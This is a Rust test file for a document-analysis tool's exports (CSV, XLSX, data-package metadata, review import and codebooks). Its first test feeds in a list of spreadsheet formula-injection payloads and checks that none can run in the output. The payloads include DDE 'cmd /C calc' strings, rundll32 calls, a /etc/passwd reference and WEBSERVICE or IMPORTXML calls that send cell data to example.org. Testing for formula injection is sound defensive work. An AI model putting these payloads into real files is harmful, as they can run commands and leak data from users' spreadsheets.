//! What leaves for other programs: nothing runs in a spreadsheet, the workbook holds what the records hold, and edits come back.

use crate::harness::{Home, Run, Table, sample};
use calamine::{Data, Reader, Xlsx};
use sederunt::util::fs;
use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufReader, Read};
use std::path::Path;

type Book = Xlsx<BufReader<std::fs::File>>;

fn open(path: &Path) -> Book {
    calamine::open_workbook(path).expect("the workbook opens")
}

/// The rows of a sheet by their columns' names; the header is the fourth row.
fn rows(book: &mut Book, sheet: &str) -> Vec<BTreeMap<String, Data>> {
    let range = book.worksheet_range(sheet).expect("the sheet is there");
    let mut all = range.rows().skip(3);
    let header: Vec<String> = all.next().expect("a header").iter().map(ToString::to_string).collect();
    all.map(|row| header.iter().cloned().zip(row.iter().cloned()).collect()).collect()
}

fn words(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::DateTime(day) => {
            let (year, month, day, ..) = day.to_ymd_hms_milli();
            format!("{year:04}-{month:02}-{day:02}")
        }
        other => other.to_string(),
    }
}

/// 200 texts that spreadsheets have been made to run, or that stand close to them.
fn formulas() -> Vec<String> {
    let heads = ["=", "+", "-", "@", " =", "\"=", "'=", "\"+", "＝", "－"];
    let bodies = [
        "1+1",
        "2*3-4",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://example.org/?\"&A1,\"Open\")",
        "cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\Windows\\notepad'!''",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "IMPORTDATA(\"http://example.org/x.csv\")",
        "WEBSERVICE(\"http://example.org/\"&A1)",
        "IMAGE(\"http://example.org/x.png\")",
        "rundll32|'URL.dll,OpenURL'!A0",
        "A1&\"x\"",
        "INDIRECT(\"A\"&1)",
        "IF(1=1,\"yes\",\"no\")",
        "NOW()",
        "'file:///etc/passwd'#$passwd.A1",
        "EXEC(\"calc\")",
        "1+1+cmd|'/C calc'!Z0",
        "the board agreed to write to partners",
    ];
    heads.iter().flat_map(|head| bodies.iter().map(move |body| format!("{head}{body}"))).collect()
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

/// The cell could run: after white space and quotes, on any of its lines, a sign stands first that opens no plain number.
fn could_run(cell: &str) -> bool {
    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\0'];
    let line = |line: &str| {
        let open = line.trim_start_matches([' ', '"', '“', '”']);
        open.starts_with(signs) && open.trim_start_matches(['+', '-', '£']).parse::<f64>().is_err()
    };
    cell.split(['\n', '\r']).any(line)
}

#[test]
fn two_hundred_formulas_in_a_paper_run_nowhere() {
    let home = Home::new();
    let mut html = String::from("<html><body><h1>=1+1</h1><p>Minute of the meeting of 5 October 2020</p>\n");
    let formulas = formulas();
    assert_eq!(formulas.len(), 200);
    for formula in &formulas {
        html.push_str(&format!("<p>{}</p>\n", escaped(formula)));
    }
    html.push_str("<table><tr><th>=A1</th><th>Action</th></tr>");
    for formula in &formulas {
        html.push_str(&format!("<tr><td>{0}</td><td>told<br>{0}</td></tr>", escaped(formula)));
    }
    html.push_str("</table></body></html>");
    home.put("papers/=cmd.html", html);
    Run::new(&home).args(["run", "papers", "--out", "out"]).ok();
    let mut seen = BTreeSet::new();
    for path in crate::harness::files(&home.path("out")).iter().filter(|p| p.extension().is_some_and(|e| e == "csv")) {
        let text = fs::read_to_string(path).expect("it can be read");
        let table = Table::parse(text.trim_start_matches('\u{feff}'));
        for cell in table.cells.iter().flatten().chain(&table.header) {
            assert!(!could_run(cell), "{}: {cell:?}", path.display());
            seen.extend(formulas.iter().filter(|f| cell.contains(f.trim())));
        }
    }
    // What is printed as CSV is opened in a spreadsheet as well.
    for command in [&["search", "agreed"][..], &["actions"], &["status"]] {
        let printed = Run::new(&home).args(command).args(["--format", "csv"]).ok().out;
        let table = Table::parse(printed.trim_start_matches('\u{feff}'));
        assert!(!table.header.is_empty(), "{command:?}");
        for cell in table.cells.iter().flatten().chain(&table.header) {
            assert!(!could_run(cell), "{command:?}: {cell:?}");
        }
    }
    // A paragraph loses the sign that is read as its bullet; the cells of the table keep it.
    assert_eq!(seen.len(), formulas.len(), "texts that were lost were not tried");
    let mut book = open(&home.path("out/evidence.xlsx"));
    let mut held = 0;
    for sheet in book.sheet_names() {
        let run = book.worksheet_formula(&sheet).expect("the sheet is there");
        assert!(run.cells().all(|(_, _, formula)| formula.is_empty()), "{sheet} has a formula");
        held += book
            .worksheet_range(&sheet)
            .expect("the sheet")
            .cells()
            .filter(|(.., c)| c.to_string().starts_with('='))
            .count();
    }
    assert!(held > 40, "the workbook holds the words as they are, {held}");
}

#[test]
fn the_workbook_holds_what_the_lines_of_json_hold() {
    let home = sample();
    let mut book = open(&home.path("out/evidence.xlsx"));
    let passages: BTreeMap<String, BTreeMap<String, Data>> =
        rows(&mut book, "passages").into_iter().map(|row| (words(&row["passage_id"]), row)).collect();
    let mentions = rows(&mut book, "mentions");
    let lines = home.text("out/evidence.jsonl");
    let mut found = 0;
    for line in lines.lines() {
        let value: serde_json::Value = serde_json::from_str(line).expect("a line is JSON");
        let row = &passages[value["passage_id"].as_str().expect("an id")];
        for column in
            ["paper_id", "source", "page", "paragraph", "kind", "stance", "text", "stem", "paper_title", "paper_date"]
        {
            let held = match &value[column] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            assert_eq!(words(&row[column]), held, "{column}");
        }
        found += value["mentions"].as_array().expect("a list").len();
    }
    assert_eq!((passages.len(), mentions.len()), (lines.lines().count(), found));
    // Every table of the export is a sheet with the same header and as many rows.
    for path in
        fs::list(&home.path("out")).expect("the folder").iter().filter(|p| p.extension().is_some_and(|e| e == "csv"))
    {
        let name = path.file_stem().expect("a name").to_string_lossy().into_owned();
        let table = home.table(&format!("out/{name}.csv"));
        let range = book.worksheet_range(&name).expect("the sheet is there");
        let header: Vec<String> = range.rows().nth(3).expect("a header").iter().map(ToString::to_string).collect();
        assert_eq!(header, table.header, "{name}");
        let body = range.rows().skip(4).filter(|row| row.iter().any(|c| *c != Data::Empty)).count();
        assert_eq!(body, table.rows.len(), "{name}");
        assert_ne!(range.rows().next().expect("a title")[0], Data::Empty, "{name}: the title stands in A1");
    }
}

#[test]
fn the_description_of_the_tables_is_true() {
    let home = sample();
    let package = home.json("out/datapackage.json");
    let resources = package["resources"].as_array().expect("a list");
    let named = |name: &str| resources.iter().find(|r| r["name"] == name).expect("the table is described");
    let values = |table: &str, column: &str| -> Vec<String> {
        home.table(&format!("out/{table}.csv")).rows.iter().map(|row| row[column].clone()).collect()
    };
    let mut keys = 0;
    for resource in resources.iter().filter(|r| r["schema"].is_object()) {
        let name = resource["name"].as_str().expect("a name");
        let table = home.table(&format!("out/{name}.csv"));
        let fields: Vec<&str> = resource["schema"]["fields"]
            .as_array()
            .expect("fields")
            .iter()
            .map(|f| f["name"].as_str().expect("a name"))
            .collect();
        assert_eq!(fields, table.header, "{name}");
        for field in resource["schema"]["fields"].as_array().expect("fields") {
            let column = field["name"].as_str().expect("a name");
            for row in &table.rows {
                let cell = &row[column];
                let known = field["constraints"]["enum"].as_array();
                assert!(
                    cell.is_empty() || known.is_none_or(|words| words.iter().any(|w| w == cell)),
                    "{name}.{column}: {cell}"
                );
                assert!(
                    field["type"] != "integer" || cell.is_empty() || cell.parse::<u64>().is_ok(),
                    "{name}.{column}: {cell}"
                );
            }
        }
        if let Some(key) = resource["schema"]["primaryKey"].as_array() {
            let of = |row: &BTreeMap<String, String>| -> Vec<String> {
                key.iter().map(|k| row[k.as_str().expect("a name")].clone()).collect()
            };
            let all: BTreeSet<Vec<String>> = table.rows.iter().map(of).collect();
            assert_eq!(all.len(), table.rows.len(), "{name}: two rows have one key");
        }
        for foreign in resource["schema"]["foreignKeys"].as_array().into_iter().flatten() {
            keys += 1;
            let (field, to) = (&foreign["fields"], &foreign["reference"]);
            let (other, column) = (to["resource"].as_str().expect("a table"), to["fields"].as_str().expect("a column"));
            named(other);
            let there: BTreeSet<String> = values(other, column).into_iter().collect();
            for value in values(name, field.as_str().expect("a column")) {
                assert!(value.is_empty() || there.contains(&value), "{name}: {field} {value} is not in {other}");
            }
        }
    }
    assert!(keys > 20, "{keys}");
    let web = home.json("out/csv-metadata.json");
    assert_eq!(
        web["tables"].as_array().expect("a list").len(),
        resources.iter().filter(|r| r["schema"].is_object()).count()
    );
}

#[test]
fn edits_come_back_as_decisions_and_unknown_rows_are_refused() {
    let sample = sample();
    let home = Home::new();
    let index = sample.path("index");
    let index = index.to_string_lossy();
    let table = sample.table("out/passages.csv");
    let row =
        table.rows.iter().find(|r| r["themes"].contains('|') && r["stance"] == "neutral").expect("such a passage");
    let (gone, kept) = row["themes"].split_once('|').expect("two themes");
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let line = |id: &str, themes: &str, stance: &str, text: &str| {
        format!("{};{};{stance};{}\r\n", id, quoted(themes), quoted(text))
    };
    let id = &row["passage_id"];
    let mut edited = String::from("passage_id;themes;stance;text\r\n");
    edited.push_str(&line(id, kept, "Challenge", &row["text"]));
    edited.push_str(&line("0000000000000000", "digital", "neutral", "not there"));
    home.put("passages.csv", &edited);
    let import = |more: &[&str]| Run::new(&home).index(&index).args(["review", "import", "passages.csv"]).args(more);
    let shown = import(&["--dry-run"]).exits(3).says("line 3: this index has no such passage");
    assert!(
        shown.out.contains(&format!("theme - {gone}")) && shown.out.contains("stance: neutral -> challenge"),
        "{}",
        shown.out
    );
    assert!(!home.path("review.csv").exists(), "a dry run writes nothing");
    import(&[]).exits(3).says("nothing is written");
    assert!(!home.path("review.csv").exists(), "without a person or --yes nothing is written");
    // Decisions go where the settings say that builds look for them.
    home.put("sederunt.toml", "review = \"decided.csv\"\n");
    import(&["--yes"]).exits(3).says("Wrote 2 decisions to decided.csv");
    fs::remove_file(&home.path("sederunt.toml")).expect("it is there");
    import(&["--yes", "--who", "A. Analyst"]).exits(3).says("Wrote 2 decisions");
    let review = home.table("review.csv");
    let decisions: BTreeSet<(String, String, String)> =
        review.rows.iter().map(|r| (r["facet"].clone(), r["concept"].clone(), r["decision"].clone())).collect();
    let expected = [("theme", gone, "reject"), ("stance", "challenge", "add")];
    assert_eq!(decisions, expected.map(|(f, c, d)| (f.into(), c.into(), d.into())).into());
    // What was sorted in one column alone is no edit.
    home.put("passages.csv", format!("passage_id;themes;stance;text\r\n{}", line(id, "", "neutral", "Other words")));
    import(&["--yes"]).exits(3).says("its words are not those of the passage");
    // The workbook as it was written changes nothing.
    let book = sample.path("out/evidence.xlsx");
    let book = book.to_string_lossy();
    Run::new(&home).index(&index).args(["review", "import", &book, "--yes"]).ok().says("Nothing was changed");
    // The status of an action, set by hand, holds in the next export.
    let actions = sample.table("out/actions.csv");
    let action = actions.rows.iter().find(|r| r["status"] != "paused").expect("an action");
    home.put("actions.csv", format!("action_id,status\n{},Paused\n", action["action_id"]));
    Run::new(&home).index(&index).args(["review", "import", "actions.csv", "--yes"]).ok().says("Wrote 1 decision");
    Run::new(&home).index(&index).args(["export", "again", "--to", "csv"]).ok();
    assert_eq!(home.table("again/actions.csv").the("action_id", &action["action_id"])["status"], "paused");
    // A title in other letters and a date that is not known are those of the paper all the same.
    let kept = home.text("review.csv");
    let row =
        home.table("review.csv").rows.into_iter().find(|row| row["facet"] == "action-status").expect("the decision");
    let (title, date) = (&row["paper_title"], &row["paper_date"]);
    home.put("review.csv", kept.replace(title.as_str(), &title.to_uppercase()).replace(&format!(",{date},"), ",,"));
    Run::new(&home).index(&index).args(["export", "again", "--to", "csv"]).ok();
    assert_eq!(home.table("again/actions.csv").the("action_id", &action["action_id"])["status"], "paused");
    home.put("review.csv", kept);
    // A decision whose action is there no more is named, and so is a status that there is not.
    let decided = home.text("review.csv");
    let of_action = decided.lines().find(|l| l.contains("action-status")).expect("the decision").to_owned();
    let print = of_action.split(',').next().expect("a first cell");
    home.put("review.csv", decided.replace(print, "0123456789abcdef"));
    let lost = "review.csv, line 4: the decision to add action-status paused finds no action that begins";
    Run::new(&home).index(&index).args(["export", "again", "--to", "csv"]).ok().says(lost);
    Run::new(&home).index(&index).args(["actions"]).ok().says(lost);
    home.put("review.csv", decided.replace(",paused,", ",asleep,"));
    Run::new(&home).index(&index).args(["actions"]).ok().says("\"asleep\" is no status; write open");
    // What holds no finding and no action asks for neither.
    home.put("review.csv", decided.replace(print, "0123456789abcdef"));
    let plain = Run::new(&home).index(&index).args(["export", "plain", "--to", "qdc,bibtex,ris,csl-json,jsonl"]).ok();
    assert!(!plain.err.contains("finds no action"), "{}", plain.err);
    let beside = |name: &str| fs::read(&home.path(&format!("plain/{name}"))).expect("it was written");
    assert!(beside("evidence.jsonl") == fs::read(&sample.path("out/evidence.jsonl")).expect("it was written"));
    assert!(!beside("codebook.qdc").is_empty() && !beside("papers.bib").is_empty());
    home.put("other.csv", "a,b\n1,2\n");
    Run::new(&home)
        .index(&index)
        .args(["review", "import", "other.csv"])
        .exits(2)
        .says("has no table with a column passage_id");
}

#[test]
fn a_codebook_goes_to_other_programs_and_comes_back_as_a_lexicon() {
    let sample = sample();
    let home = Home::new();
    let index = sample.path("index");
    let index = index.to_string_lossy();
    let to = "qdc,qdpx,skos,annotations,bibtex,ris,csl-json";
    Run::new(&home).index(&index).args(["export", "out", "--to", to]).ok();
    Run::new(&home).args(["codebook", "import", "out/codebook.qdc", "--out", "ours"]).ok().says("Wrote");
    Run::new(&home).args(["codebook", "import", "out/codebook.qdc", "--out", "ours"]).exits(2).says("--force");
    home.put("papers/note.md", "# Note\n\nData and evidence came late.\n");
    Run::new(&home).args(["--lexicon", "ours", "run", "papers", "--out", "mine"]).ok();
    let mentions = home.table("mine/mentions.csv");
    assert!(mentions.rows.iter().any(|row| row["concept"] == "data-and-evidence"), "{:?}", mentions.rows);
    home.put("no.qdc", "<a>");
    Run::new(&home).args(["codebook", "import", "no.qdc", "--out", "x"]).exits(2).says("no.qdc");
    // The project holds every mention.
    let file = fs::open(&home.path("out/evidence.qdpx")).expect("it is there");
    let mut zip = zip::ZipArchive::new(file).expect("it is a zip file");
    let mut project = String::new();
    zip.by_name("project.qde").expect("the project").read_to_string(&mut project).expect("UTF-8");
    let mentions = sample.table("out/mentions.csv").rows.len();
    assert_eq!(project.matches("<Coding ").count(), mentions);
    let annotations: serde_json::Value = home.json("out/annotations.jsonld");
    assert_eq!(annotations["items"].as_array().expect("a list").len(), mentions);
    let papers = sample.table("out/papers.csv").rows.len();
    assert_eq!(home.json("out/papers.csl.json").as_array().expect("a list").len(), papers);
    assert_eq!(home.text("out/papers.ris").matches("ER  - ").count(), papers);
    assert_eq!(home.text("out/papers.bib").matches("\n}\n").count(), papers);
}

#[test]
fn a_table_can_have_other_signs_and_no_mark() {
    let sample = sample();
    let home = Home::new();
    let index = sample.path("index");
    let index = index.to_string_lossy();
    Run::new(&home).index(&index).args(["export", "out", "--to", "csv", "--delimiter", "semicolon", "--no-bom"]).ok();
    assert!(home.text("out/evidence.csv").starts_with("statement_id;theme;"));
    assert!(!home.path("out/evidence.xlsx").exists());
    assert!(!home.path("out/evidence.csv-metadata.json").exists());
    Run::new(&home).index(&index).args(["export", "out", "--to", "csvw", "--delimiter", "semicolon"]).ok();
    let about = home.json("out/evidence.csv-metadata.json");
    assert_eq!((about["url"].as_str(), about["dialect"]["delimiter"].as_str()), (Some("evidence.csv"), Some(";")));
    assert_eq!(about["tableSchema"]["columns"][0]["name"], "statement_id");
    Run::new(&home).index(&index).args(["export", "out", "--delimiter", "|"]).exits(2).says("a bar parts lists");
}
